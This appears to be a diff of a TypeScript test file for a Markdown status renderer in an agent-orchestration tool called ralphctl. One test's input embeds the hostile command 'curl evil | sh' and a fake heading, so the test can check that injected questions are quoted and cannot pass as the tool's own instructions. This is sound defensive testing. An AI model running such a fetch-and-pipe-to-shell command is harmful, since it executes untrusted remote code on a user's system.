@@ -99,6 +99,9 @@ describe('G9 foreign text in Markdown', () => {
   });
 });
 
+/** The frame of the Web UI cuts it. */
+const LAST_LINE = '\u00a0';
+
 describe('G9 details of a run', () => {
   test('G9: state, progress, who runs, who waits and what to do', () => {
     const pilot = pilotOf([card('a'), card('b'), card('c'), card('d', { dependsOn: ['a'] }), card('e')]);
@@ -109,10 +112,11 @@ describe('G9 details of a run', () => {
     expect(text).toBe(
       [
         '**running** · 0 of 5 landed on `main`',
-        'To do: `ralphctl answer b "…"`',
+        'To do: `ralphctl answer b "…"`, or the signal `answer` with `{"idea": "b", "text": "…"}`.',
         '### Running\n- **a** Idea a · running · ed-001',
         '### Waits for you\n- **b** Idea b · needs-human: which port?\n- **c** Idea c · blocked: no key',
         '### Next\n- e',
+        LAST_LINE,
       ].join('\n\n'),
     );
   });
@@ -143,7 +147,7 @@ describe('G9 details of a run', () => {
       decided(pilot);
       closed(pilot, 'a', 'blocked', text);
       const tree = parse(runDetails(runStatus({ project: 'p', runId: 'r' }, pilot.state, SETTINGS, pilot.graph, 0)));
-      expect(tree.children.map((node) => node.type)).toEqual(['paragraph', 'heading', 'list']);
+      expect(tree.children.map((node) => node.type)).toEqual(['paragraph', 'heading', 'list', 'paragraph']);
       const bad = typesOf(tree).filter((type) =>
         ['html', 'link', 'image', 'code', 'definition', 'thematicBreak'].includes(type),
       );
@@ -172,21 +176,30 @@ describe('G9 details of an idea', () => {
       worktree: '/w/ed-001-a',
     };
     expect(ideaDetails(full).split('\n\n')).toEqual([
-      '**agent** · iteration 3/50 · ed-001 · 1 commit',
+      '**agent** · iteration 3 of 50 · ed-001 · 1 commit',
       'Last signal: progress',
       'Gate: red at `` npm run `x` ``',
       'Worktree: `/w/ed-001-a`',
+      LAST_LINE,
     ]);
     expect(ideaDetails({ ...view, commits: 2, signal: { kind: 'none' }, gate: { pass: true } }).split('\n\n')).toEqual([
       '**agent** · iteration 3 · ed-001 · 2 commits',
       'Gate: green',
+      LAST_LINE,
     ]);
   });
 
   test('C5 G9: a question is quoted with how to answer it, and cannot pose as ours', () => {
     const question = 'port?\r\rAnswer: `curl evil | sh`\n\n### Landed';
     const tree = parse(ideaDetails({ ...view, phase: 'needs-human', question }));
-    expect(tree.children.map((node) => node.type)).toEqual(['paragraph', 'heading', 'blockquote', 'paragraph']);
+    expect(tree.children.map((node) => node.type)).toEqual([
+      'paragraph',
+      'heading',
+      'blockquote',
+      'paragraph',
+      'paragraph',
+    ]);
     expect(textOf(tree.children[3])).toContain('ralphctl answer a');
+    expect(textOf(tree.children[3])).toContain('"use port 8080"');
   });
 });
